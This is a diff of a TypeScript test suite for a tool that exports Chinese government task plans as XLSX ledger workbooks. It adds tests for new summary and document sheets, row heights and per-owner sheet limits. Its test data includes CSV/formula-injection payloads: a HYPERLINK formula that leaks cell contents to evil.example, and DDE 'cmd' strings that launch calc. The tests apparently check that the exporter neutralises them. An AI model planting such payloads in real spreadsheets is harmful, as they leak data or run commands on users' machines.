@@ -8,7 +8,7 @@ import { FIXTURES } from '../support/seeds.js';
 import { lint } from '../../src/lint.js';
 import { parseBytes } from '../../src/parse.js';
 import { ledgerDocument, type LedgerDocument, type LedgerTask } from '../../src/export/ledger.js';
-import { buildLedger, cellWidth, excelDate } from '../../src/export/xlsx.js';
+import { MAX_OWNER_SHEETS, buildLedger, cellWidth, excelDate } from '../../src/export/xlsx.js';
 import { cellFormats, elements, fonts, inSchemaOrder, numberFormat, openPackage, rowCells, worksheetChildren } from '../support/xlsx.js';
 
 const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|x'];
@@ -28,7 +28,10 @@ function task(overrides: Partial<LedgerTask>): LedgerTask {
     status: '',
     location: '16:1',
     leads: ['公共文化科'],
+    coOwners: [],
+    partnerUnits: [],
     problemCount: 0,
+    severities: { errors: 0, warnings: 0, infos: 0 },
     ...overrides,
   };
 }
@@ -39,7 +42,7 @@ const plan: LedgerDocument = {
   docNumber: '益资文旅广体发〔2020〕8号',
   tasks: [
     task({}),
-    task({ path: '二、重点任务 > （一）公共服务 > 2', task: INJECTIONS[0], units: INJECTIONS[1], leads: [INJECTIONS[1]], deadline: '6月底前', start: null, end: '2020-06-30', problems: '警告：x', problemCount: 1 }),
+    task({ path: '二、重点任务 > （一）公共服务 > 2', task: INJECTIONS[0], units: INJECTIONS[1], leads: [INJECTIONS[1]], deadline: '6月底前', start: null, end: '2020-06-30', problems: '警告：x', problemCount: 1, severities: { errors: 0, warnings: 1, infos: 0 } }),
     task({ path: '二、重点任务 > （一）公共服务 > 3', task: INJECTIONS[2], leaders: INJECTIONS[3], units: '[综合]科:*?/\\', leads: ['[综合]科:*?/\\'], deadline: '', start: null, end: null }),
     task({ path: '二、重点任务 > （一）公共服务 > 1', units: '', leads: [], end: '2022-03-31', start: null }),
   ],
@@ -60,8 +63,34 @@ describe('buildLedger: one input', () => {
   const xfs = cellFormats(styles);
   const ledger = pkg.sheets.get('任务台账')!;
 
-  it('has the sheets 任务台账, 问题清单, 汇总, in that order', () => {
-    expect([...pkg.sheets.keys()]).toEqual(['任务台账', '问题清单', '汇总']);
+  it('has the sheets 任务台账, 问题清单, 汇总, 文档, in that order', () => {
+    expect([...pkg.sheets.keys()]).toEqual(['任务台账', '问题清单', '汇总', '文档']);
+  });
+
+  it('styles every data cell: ruled, wrapped at the top; 序号 and counts are numbers, dates are dates', () => {
+    for (const [name, xml] of pkg.sheets) {
+      for (const cell of elements(xml).filter((e) => e.name === 'c')) {
+        const xf = xfs[Number(cell.attributes.s)];
+        expect(xf, `${name} ${cell.attributes.r}`).toBeDefined();
+        expect(xf.alignment).toMatch(/vertical="(top|center)"/);
+      }
+    }
+    expect(rowCells(ledger, 2).get('A2')!.xml).toBe('<v>1</v>');
+    expect(numberFormat(styles, xfs[Number(rowCells(ledger, 2).get('H2')!.s)].numFmtId)).toBe('yyyy-mm-dd');
+  });
+
+  it('sets each row as high as its tallest wrapped cell', () => {
+    const long = buildLedger([{ ...plan, tasks: [task({ task: '建成文化礼堂、百姓舞台30家，'.repeat(30) }), task({})] }]);
+    const rows = elements(openPackage(long).sheets.get('任务台账')!).filter((e) => e.name === 'row');
+    const heights = rows.slice(1).map((r) => Number(r.attributes.ht));
+    // 450 columns of text in a column 50 wide: about ten lines.
+    expect(heights[0]).toBeGreaterThan(heights[1] * 8);
+    expect(rows.slice(1).every((r) => r.attributes.customHeight === '1')).toBe(true);
+  });
+
+  it('prints the header row on every page', () => {
+    expect(pkg.files['xl/workbook.xml']).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="0">'任务台账'!$1:$1</definedName>`);
+    expect(pkg.sheets.get('任务台账')).toContain('某县文化&lt;设施&gt;建设工作方案 &amp;&amp; 附表 益资文旅广体发〔2020〕8号 · &amp;A');
   });
 
   it('writes every sheet well-formed, its children in schema order, header frozen and bold, with an autofilter over the table', () => {
@@ -130,7 +159,7 @@ describe('buildLedger: one input', () => {
 
   it('sums up per lead unit: tasks, earliest deadline, problems', () => {
     const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(read(bytes).Sheets['汇总'], { raw: true });
-    expect(rows.map((r) => [r['牵头单位'], r['任务数'], (r['最早截止'] as Date | undefined)?.toISOString().slice(0, 10), r['问题数']])).toEqual([
+    expect(rows.map((r) => [r['单位'], r['牵头任务数'], (r['最早截止'] as Date | undefined)?.toISOString().slice(0, 10), r['警告']])).toEqual([
       ['公共文化科', 1, '2021-12-31', 0],
       [INJECTIONS[1], 1, '2020-06-30', 1],
       ['[综合]科:*?/\\', 1, undefined, 0],
@@ -138,9 +167,31 @@ describe('buildLedger: one input', () => {
     ]);
   });
 
+  it('counts co-owners and partners apart from leads, and the lead’s tasks by 进展状态', () => {
+    const shared = task({ units: '甲局、乙局', leads: ['甲局'], coOwners: ['乙局'], partnerUnits: ['丙局'], status: '已完成', severities: { errors: 1, warnings: 0, infos: 2 } });
+    const other = task({ units: '乙局', leads: ['乙局'], status: '预计年底完成' });
+    const sheet = read(buildLedger([{ ...plan, tasks: [shared, other] }])).Sheets['汇总'];
+    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { raw: true });
+    const pick = (r: Record<string, unknown>) => [r['单位'], r['牵头任务数'], r['共同负责数'], r['配合任务数'], r['已完成'], r['其他状态'], r['错误'], r['提示']];
+    expect(rows.map(pick)).toEqual([
+      ['甲局', 1, 0, 0, 1, 0, 1, 2],
+      ['乙局', 1, 1, 0, 0, 1, 0, 0],
+      ['丙局', 0, 0, 1, 0, 0, 0, 0],
+    ]);
+  });
+
+  it('names each source document with its title, 文号, issuer, date and counts', () => {
+    const withMeta = buildLedger([{ ...plan, issuer: '某县文化广电旅游体育局', date: '2020-06-05' }, broken]);
+    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(read(withMeta).Sheets['文档'], { raw: true });
+    expect(rows.map((r) => [r['文件'], r['文件标题'], r['发文字号'], r['发文机关'], (r['成文日期'] as Date | undefined)?.toISOString().slice(0, 10), r['任务数'], r['问题数']])).toEqual([
+      ['plans/方案.txt', plan.title, plan.docNumber, '某县文化广电旅游体育局', '2020-06-05', 4, 1],
+      ['=坏文件.docx', undefined, undefined, undefined, undefined, 0, 0],
+    ]);
+  });
+
   it('lists each problem with its rule and task', () => {
     const rows = XLSX.utils.sheet_to_json<Record<string, string>>(read(bytes).Sheets['问题清单']);
-    expect(rows).toEqual([{ 序号: '2', 任务: INJECTIONS[0], 级别: '警告', 规则: 'vague-owner', 问题: INJECTIONS[2], 位置: '17:1' }]);
+    expect(rows).toEqual([{ 序号: 2, 任务: INJECTIONS[0], 级别: '警告', 规则: 'vague-owner', 问题: INJECTIONS[2], 位置: '17:1' }]);
   });
 });
 
@@ -176,8 +227,8 @@ describe('buildLedger: several inputs, by owner', () => {
 
   it('adds a 文件 column first, a 失败文件 sheet, and a valid sheet per lead unit', () => {
     const names = [...pkg.sheets.keys()];
-    expect(names.slice(0, 4)).toEqual(['任务台账', '问题清单', '汇总', '失败文件']);
-    expect(names.slice(4)).toEqual(['公共文化科', "+cmd|' _C calc'!A0", '_综合_科_____', '（未明确牵头单位）']);
+    expect(names.slice(0, 5)).toEqual(['任务台账', '问题清单', '汇总', '文档', '失败文件']);
+    expect(names.slice(5)).toEqual(['公共文化科', "+cmd|' _C calc'!A0", '_综合_科_____', '（未明确牵头单位）']);
     for (const name of names) {
       expect(name.length).toBeLessThanOrEqual(31);
       expect(name).not.toMatch(/[[\]:*?/\\]|^'|'$/);
@@ -187,21 +238,29 @@ describe('buildLedger: several inputs, by owner', () => {
     expect(workbook.Sheets['任务台账']['!data']!.slice(1).map((r) => r[0].v)).toEqual([...Array(4).fill('plans/方案.txt'), ...Array(4).fill('plans/其他.txt')]);
     expect(XLSX.utils.sheet_to_json(workbook.Sheets['失败文件'])).toEqual([{ 文件: '=坏文件.docx', 原因: 'the file is empty' }]);
     expect(XLSX.utils.sheet_to_json<Record<string, string>>(workbook.Sheets['公共文化科']).map((r) => [r['文件'], r['序号']])).toEqual([
-      ['plans/方案.txt', '1'],
-      ['plans/其他.txt', '5'],
+      ['plans/方案.txt', 1],
+      ['plans/其他.txt', 5],
     ]);
   });
 
   it('numbers the tasks through the whole ledger; 问题清单 refers to them by that number', () => {
     const workbook = read(bytes);
     const tasks = XLSX.utils.sheet_to_json<Record<string, string>>(workbook.Sheets['任务台账']);
-    expect(tasks.map((r) => r['序号'])).toEqual(['1', '2', '3', '4', '5', '6', '7', '8']);
+    expect(tasks.map((r) => r['序号'])).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
     expect(tasks.map((r) => r['层级/路径'].split(' > ').at(-1))).toEqual(['1', '2', '3', '1', '1', '2', '3', '1']);
     const problems = XLSX.utils.sheet_to_json<Record<string, string>>(workbook.Sheets['问题清单']);
     expect(problems.map((r) => [r['文件'], r['序号'], tasks[Number(r['序号']) - 1]['任务']])).toEqual([
-      ['plans/方案.txt', '2', INJECTIONS[0]],
-      ['plans/其他.txt', '6', INJECTIONS[0]],
+      ['plans/方案.txt', 2, INJECTIONS[0]],
+      ['plans/其他.txt', 6, INJECTIONS[0]],
     ]);
+  });
+
+  it('--by-owner on a plan naming 800 units: a sheet for each of the first MAX_OWNER_SHEETS, every task and unit still in 任务台账 and 汇总', () => {
+    const tasks = Array.from({ length: 800 }, (_, k) => task({ units: `第${k}科`, leads: [`第${k}科`] }));
+    const pkg800 = openPackage(buildLedger([{ ...plan, tasks }], { byOwner: true }));
+    expect(pkg800.sheets.size).toBe(4 + MAX_OWNER_SHEETS);
+    expect(elements(pkg800.sheets.get('任务台账')!).filter((e) => e.name === 'row')).toHaveLength(801);
+    expect(elements(pkg800.sheets.get('汇总')!).filter((e) => e.name === 'row')).toHaveLength(801);
   });
 
   it('puts the drop-down on 进展状态 (column M with the 文件 column) in every task sheet', () => {
